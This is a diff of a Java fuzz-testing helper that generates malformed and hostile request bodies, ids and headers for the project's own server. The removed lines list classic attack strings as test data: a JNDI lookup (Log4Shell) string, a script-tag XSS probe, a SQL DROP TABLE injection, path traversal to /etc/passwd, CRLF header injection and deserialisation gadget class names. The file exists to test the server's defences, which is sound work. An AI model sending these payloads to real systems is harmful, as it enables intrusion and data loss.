@@ -1,21 +1,16 @@
 package org.peipao.server.security;
 
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
-import net.jqwik.api.Tuple;
-
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.function.UnaryOperator;
 import java.util.regex.Pattern;
 
 import static org.peipao.server.security.FuzzTargets.Field;
 import static org.peipao.server.security.FuzzTargets.quote;
+import static org.peipao.server.security.FuzzTargets.text;
 
-/** Generators of malformed and hostile bodies, ids and header values. */
+/** Malformed and hostile bodies, ids and header values, drawn with a {@link Dice}. */
 final class HostileInputs {
 
     static final int LIMIT = 64 * 1024;
@@ -28,179 +23,153 @@ final class HostileInputs {
     private HostileInputs() {
     }
 
-    static Arbitrary<byte[]> bodies(FuzzTargets.Target target) {
-        return Arbitraries.frequencyOf(
-                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(200).map(HostileInputs::utf8)),
-                Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(300)),
-                Tuple.of(2, json(3).map(HostileInputs::utf8)),
-                Tuple.of(8, mutated(target)),
-                Tuple.of(1, deeplyNested()),
-                Tuple.of(2, nearTheLimit(target)));
+    static byte[] body(Dice dice, FuzzTargets.Target target) {
+        // a valid body with something done to it gets past the first checks, so it is drawn most often
+        return switch (dice.weighted(1, 1, 2, 8, 1, 2)) {
+            case 0 -> utf8(dice.anyString(200));
+            case 1 -> dice.bytes(300);
+            case 2 -> utf8(json(dice, 3));
+            case 3 -> mutated(dice, target);
+            case 4 -> deeplyNested(dice);
+            default -> nearTheLimit(dice, target);
+        };
     }
 
-    /** JSON values of any shape: the wrong types wherever a body is expected. */
-    static Arbitrary<String> json(int depth) {
-        Arbitrary<String> leaf = Arbitraries.oneOf(Arbitraries.of("null", "true", "false", "0", "-0", "1e400"),
-                Arbitraries.integers().map(String::valueOf), Arbitraries.doubles().map(String::valueOf),
-                Arbitraries.strings().all().ofMaxLength(30).map(FuzzTargets::quote));
-        if (depth == 0) {
-            return leaf;
-        }
-        Arbitrary<String> array = json(depth - 1).list().ofMaxSize(4).map(items -> "[" + String.join(",", items) + "]");
-        Arbitrary<String> object = Combinators.combine(Arbitraries.strings().all().ofMaxLength(10), json(depth - 1))
-                .as((name, value) -> quote(name) + ":" + value)
-                .list().ofMaxSize(4).map(members -> "{" + String.join(",", members) + "}");
-        return Arbitraries.oneOf(leaf, array, object);
+    /** A JSON value of any shape, up to {@code depth} levels deep: the wrong types wherever a body is expected. */
+    static String json(Dice dice, int depth) {
+        return switch (depth == 0 ? 0 : dice.between(0, 2)) {
+            case 0 -> switch (dice.between(0, 3)) {
+                case 0 -> dice.oneOf("null", "true", "false", "0", "-0", "1e400");
+                case 1 -> String.valueOf(dice.anyInt());
+                case 2 -> String.valueOf(dice.anyDouble());
+                default -> quote(dice.anyString(30));
+            };
+            case 1 -> {
+                List<String> items = new ArrayList<>();
+                for (int i = dice.between(0, 4); i > 0; i--) {
+                    items.add(json(dice, depth - 1));
+                }
+                yield "[" + String.join(",", items) + "]";
+            }
+            default -> {
+                List<String> members = new ArrayList<>();
+                for (int i = dice.between(0, 4); i > 0; i--) {
+                    members.add(quote(dice.anyString(10)) + ":" + json(dice, depth - 1));
+                }
+                yield "{" + String.join(",", members) + "}";
+            }
+        };
     }
 
     /** What a hostile client puts in one field. */
-    static Arbitrary<String> hostileValue() {
-        return Arbitraries.oneOf(
-                Arbitraries.of("null", "true", "false", "0", "-1", "[]", "{}", "\"\"", "\"   \"", "[null]",
-                        "{\"$ne\":null}", "\"\\u0000\"", "\"\\ud800\"", "\"a\\udc00b\"", "\"\\uffff\"",
-                        "1e999999999", "-1e-999999999", "1E+2147483647", "0E-2147483647", "-0.0",
-                        "0.000000000000000000000000000001", "123456789012345678901234567890", "1.005",
-                        "NaN", "Infinity", "-Infinity", "0x10", "01", ".5", "1.", "+1", "2147483648", "-2147483649",
-                        "\"2025-02-30\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2025-13-01\"",
-                        "\"9999-12-31\"", "\"2025-06-10T00:00:00Z\"", "[\"AI\",\"AI\"]", "[\"AI\",null]",
-                        "\"${jndi:ldap://example.org/a}\"", "\"<script>alert(1)</script>\"",
-                        "\"'; DROP TABLE DomainEventEntry; --\"", "\"../../etc/passwd\"", "\"\\r\\nSet-Cookie: a=b\"",
-                        "\"tech_broker\"", "\"TECH_BROKER \"", "\"\\u202eRKOB_HCET\"", "{\"@class\":\"java.net.URL\"}",
-                        "[\"java.util.HashMap\",{}]"),
-                Arbitraries.strings().all().ofMaxLength(300).map(FuzzTargets::quote),
-                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMaxLength(20).map(FuzzTargets::quote),
-                Arbitraries.integers().between(200, 6000).map(n -> "\"" + "字".repeat(n) + "\""),
-                Arbitraries.integers().between(300, 3000).flatMap(n -> Arbitraries.of(
-                        "9".repeat(n), "0." + "3".repeat(n), "1e" + "9".repeat(Math.min(n, 20)), "-" + "1".repeat(n))),
-                json(2));
-    }
-
-    /** A valid body with one to three things done to it. */
-    static Arbitrary<byte[]> mutated(FuzzTargets.Target target) {
-        int size = target.body().size();
-        Arbitrary<Integer> field = Arbitraries.integers().between(0, Math.max(0, size - 1));
-        Arbitrary<UnaryOperator<List<Field>>> replace = Combinators.combine(field, hostileValue())
-                .as((at, value) -> fields -> with(fields, at, f -> new Field(f.name(), value)));
-        Arbitrary<UnaryOperator<List<Field>>> drop = field.map(at -> fields -> without(fields, at));
-        Arbitrary<UnaryOperator<List<Field>>> unknown = Combinators.combine(
-                        Arbitraries.of("nickname", "@class", "__proto__", "constructor", "$where", "actor", ""),
-                        hostileValue())
-                .as((name, value) -> fields -> plus(fields, new Field(name, value)));
-        Arbitrary<UnaryOperator<List<Field>>> duplicate = Combinators.combine(field, hostileValue())
-                .as((at, value) -> fields -> fields.isEmpty() ? fields
-                        : plus(fields, new Field(fields.get(Math.min(at, fields.size() - 1)).name(), value)));
-        Arbitrary<UnaryOperator<List<Field>>> mutation = size == 0 ? Arbitraries.oneOf(unknown, duplicate)
-                : Arbitraries.frequencyOf(Tuple.of(5, replace), Tuple.of(1, drop), Tuple.of(1, unknown),
-                Tuple.of(1, duplicate));
-        Arbitrary<String> text = mutation.list().ofMinSize(1).ofMaxSize(3).map(mutations -> {
-            List<Field> fields = target.body();
-            for (UnaryOperator<List<Field>> m : mutations) {
-                fields = m.apply(fields);
+    static String hostileValue(Dice dice) {
+        return switch (dice.between(0, 5)) {
+            case 0 -> dice.oneOf(HostileExamples.VALUES);
+            case 1 -> quote(dice.anyString(300));
+            case 2 -> quote(dice.string('\u0000', '\u001f', 0, 20));
+            case 3 -> "\"" + "字".repeat(dice.between(200, 6000)) + "\"";
+            case 4 -> {
+                int digits = dice.between(300, 3000);
+                yield dice.oneOf("9".repeat(digits), "0." + "3".repeat(digits), "1e" + "9".repeat(Math.min(digits, 20)),
+                        "-" + "1".repeat(digits));
             }
-            return FuzzTargets.text(fields);
+            default -> json(dice, 2);
+        };
+    }
+
+    /** A valid body with one to three things done to it, then maybe wrapped, cut, doubled or given a BOM. */
+    static byte[] mutated(Dice dice, FuzzTargets.Target target) {
+        List<Field> fields = target.body();
+        for (int i = dice.between(1, 3); i > 0; i--) {
+            fields = mutate(dice, fields);
+        }
+        String body = text(fields);
+        return utf8(switch (dice.between(0, 19)) {
+            case 0 -> "[" + body + "]";
+            case 1 -> body.substring(0, dice.between(0, body.length() - 1));
+            case 2 -> body + body;
+            case 3 -> "\uFEFF" + body;
+            default -> body;
         });
-        return Combinators.combine(text, Arbitraries.integers().between(0, 19), Arbitraries.integers().between(0, 999))
-                .as((body, shape, cut) -> switch (shape) {
-                    case 0 -> "[" + body + "]";
-                    case 1 -> body.substring(0, cut % Math.max(1, body.length()));
-                    case 2 -> body + body;
-                    case 3 -> "\uFEFF" + body;
-                    default -> body;
-                }).map(HostileInputs::utf8);
     }
 
-    static Arbitrary<byte[]> deeplyNested() {
-        return Combinators.combine(Arbitraries.integers().between(500, 20_000), Arbitraries.of("[]", "{}", "{\"a\":}"))
-                .as((depth, shape) -> switch (shape) {
-                    case "[]" -> "[".repeat(depth) + "]".repeat(depth);
-                    case "{}" -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
-                    default -> "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
-                }).map(HostileInputs::utf8);
+    /** A value replaced (most often), a field dropped, an unknown field added or a known one given twice. */
+    private static List<Field> mutate(Dice dice, List<Field> fields) {
+        List<Field> changed = new ArrayList<>(fields);
+        int mutation = fields.isEmpty() ? 2 : dice.weighted(5, 1, 1, 1);
+        int at = fields.isEmpty() ? 0 : dice.between(0, fields.size() - 1);
+        switch (mutation) {
+            case 0 -> changed.set(at, new Field(fields.get(at).name(), hostileValue(dice)));
+            case 1 -> changed.remove(at);
+            case 2 -> changed.add(new Field(dice.oneOf("nickname", "@class", "__proto__", "constructor", "$where",
+                    "actor", ""), hostileValue(dice)));
+            default -> changed.add(new Field(fields.get(at).name(), hostileValue(dice)));
+        }
+        return changed;
     }
 
-    /** A valid body padded in one text field to just under, at or just over the limit (or far over it). */
-    static Arbitrary<byte[]> nearTheLimit(FuzzTargets.Target target) {
-        return Arbitraries.oneOf(Arbitraries.integers().between(-64, 64), Arbitraries.of(4 * LIMIT, 16 * LIMIT))
-                .map(delta -> {
-                    List<Field> fields = new ArrayList<>(target.body());
-                    String padded = fields.stream().filter(f -> f.json().startsWith("\"")).map(Field::name)
-                            .filter(name -> !target.idFields().contains(name)).findFirst().orElse("padding");
-                    fields.removeIf(f -> f.name().equals(padded));
-                    fields.add(new Field(padded, "\"\""));
-                    int size = delta > 64 ? delta : LIMIT + delta;
-                    int pad = Math.max(0, size - utf8(FuzzTargets.text(fields)).length);
-                    fields.set(fields.size() - 1, new Field(padded, "\"" + "x".repeat(pad) + "\""));
-                    return utf8(FuzzTargets.text(fields));
-                });
+    static byte[] deeplyNested(Dice dice) {
+        int depth = dice.between(500, 20_000);
+        return utf8(switch (dice.between(0, 2)) {
+            case 0 -> "[".repeat(depth) + "]".repeat(depth);
+            case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
+            default -> "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
+        });
     }
 
-    static Arbitrary<HostileId> hostileIds() {
-        return Arbitraries.oneOf(
-                Arbitraries.strings().all().ofMaxLength(80).filter(id -> !VALID_ID.matcher(id).matches())
-                        .map(id -> new HostileId(encode(id), id)),
-                Arbitraries.strings().withChars("Aa0._-").ofMinLength(65).ofMaxLength(300)
-                        .map(id -> new HostileId(id, id)),
-                Arbitraries.of("%2e%2e", "%2E", "a;b", "a;jsessionid=1", "%2F", "a%2fb", "%5C", "a%5cb", "%00",
-                        "%25", "%", "%zz", "a%", "~", "!", "$", "*", "a:b", "a@b", "a,b", "a=b", "(a)", "'",
-                        "%C0%AE%C0%AE", "%E5%AD%97", "%0D%0ASet-Cookie:a=b", "%09", "%20").map(raw -> new HostileId(raw, raw)),
-                Arbitraries.of("a b", "é", "字", "a\tb", "a\u0000b", "a\u007fb", "a\"b", "a<b>", "a\\b", "a{b}", "a|b",
-                        "a^b", "a`b", "", "a/b", "a//b", "../companions", "a?b", "a#b")
-                        .map(raw -> new HostileId(raw, raw)));
+    /** A valid body padded in one text field to within 64 bytes of the limit either side, or far over it. */
+    static byte[] nearTheLimit(Dice dice, FuzzTargets.Target target) {
+        int size = dice.chance(0.5) ? LIMIT + dice.between(-64, 64) : dice.oneOf(4, 16) * LIMIT;
+        List<Field> fields = new ArrayList<>(target.body());
+        String padded = fields.stream().filter(f -> f.json().startsWith("\"")).map(Field::name)
+                .filter(name -> !target.idFields().contains(name)).findFirst().orElse("padding");
+        fields.removeIf(f -> f.name().equals(padded));
+        fields.add(new Field(padded, "\"\""));
+        int pad = Math.max(0, size - utf8(text(fields)).length);
+        fields.set(fields.size() - 1, new Field(padded, "\"" + "x".repeat(pad) + "\""));
+        return utf8(text(fields));
     }
 
-    static Arbitrary<String> contentTypes() {
-        return Arbitraries.oneOf(
-                Arbitraries.of("", "application/json; charset=bogus", "application/json; charset=utf-16",
-                        "application/json; charset=UTF-32BE", "application/json; charset=\"", "application/json;;;",
-                        "application/json; charset=ISO-8859-1", "application/*", "*/*", "*", "/", "text/plain",
-                        "application/xml", "text/xml", "application/x-www-form-urlencoded",
-                        "multipart/form-data; boundary=x", "multipart/form-data", "application/x-java-serialized-object",
-                        "application/json\u0000", "APPLICATION/JSON", "application/json+x", "application/problem+json",
-                        "application/vnd.api+json", "application/x-ndjson", "application/json; q=0.5",
-                        "application/json, text/plain", "application/json; boundary=" + "b".repeat(4000),
-                        "application/json; charset=utf-8; charset=utf-16", "json", "application/json\r\nX-Extra: 1"),
-                Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(100),
-                Arbitraries.strings().alpha().numeric().withChars("-_").ofMaxLength(40)
-                        .map(charset -> "application/json; charset=" + charset));
+    static HostileId hostileId(Dice dice) {
+        return switch (dice.between(0, 3)) {
+            case 0 -> {
+                String id = dice.anyString(80);
+                while (VALID_ID.matcher(id).matches()) {
+                    id = dice.anyString(80);
+                }
+                yield new HostileId(URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20"), id);
+            }
+            case 1 -> same(dice.string("Aa0._-", 65, 300));
+            case 2 -> same(dice.oneOf(HostileExamples.ENCODED_IDS));
+            default -> same(dice.oneOf(HostileExamples.RAW_IDS));
+        };
     }
 
-    static Arbitrary<String> correlationIds() {
-        return Arbitraries.oneOf(
-                Arbitraries.strings().withChars("abcXYZ019._-").ofMinLength(1).ofMaxLength(64),
-                Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(100),
-                Arbitraries.of("", " ", "x".repeat(65), "x".repeat(4000), "x".repeat(10_000), "<script>alert(1)</script>",
-                        "abc\r\nSet-Cookie: a=b", "abc\nX-Injected: 1", "%0d%0a", "${jndi:ldap://example.org/a}",
-                        "../../etc/passwd", "a b", "\u00e9t\u00e9", "abc\u0000", "abc\tdef"));
-    }
-
-    static String encode(String id) {
-        return URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
+    /** A Content-Type nine times in ten, and none, one or two X-Correlation-Id, all with odd values. */
+    static List<String> oddHeaders(Dice dice) {
+        List<String> headers = new ArrayList<>();
+        if (dice.chance(0.9)) {
+            headers.add("Content-Type: " + switch (dice.between(0, 2)) {
+                case 0 -> dice.oneOf(HostileExamples.CONTENT_TYPES);
+                case 1 -> dice.string('\u0000', '\u00ff', 0, 100);
+                default -> "application/json; charset=" + dice.string(HostileExamples.CHARSET_LETTERS, 0, 40);
+            });
+        }
+        for (int i = dice.between(0, 2); i > 0; i--) {
+            headers.add("X-Correlation-Id: " + switch (dice.between(0, 2)) {
+                case 0 -> dice.string("abcXYZ019._-", 1, 64);
+                case 1 -> dice.string('\u0000', '\u00ff', 0, 100);
+                default -> dice.oneOf(HostileExamples.CORRELATION_IDS);
+            });
+        }
+        return headers;
     }
 
     static byte[] utf8(String text) {
         return text.getBytes(StandardCharsets.UTF_8);
     }
 
-    private static List<Field> with(List<Field> fields, int at, UnaryOperator<Field> change) {
-        List<Field> changed = new ArrayList<>(fields);
-        if (!changed.isEmpty()) {
-            int index = Math.min(at, changed.size() - 1);
-            changed.set(index, change.apply(changed.get(index)));
-        }
-        return changed;
-    }
-
-    private static List<Field> without(List<Field> fields, int at) {
-        List<Field> fewer = new ArrayList<>(fields);
-        if (!fewer.isEmpty()) {
-            fewer.remove(Math.min(at, fewer.size() - 1));
-        }
-        return fewer;
-    }
-
-    private static List<Field> plus(List<Field> fields, Field field) {
-        List<Field> more = new ArrayList<>(fields);
-        more.add(field);
-        return more;
+    private static HostileId same(String id) {
+        return new HostileId(id, id);
     }
 }
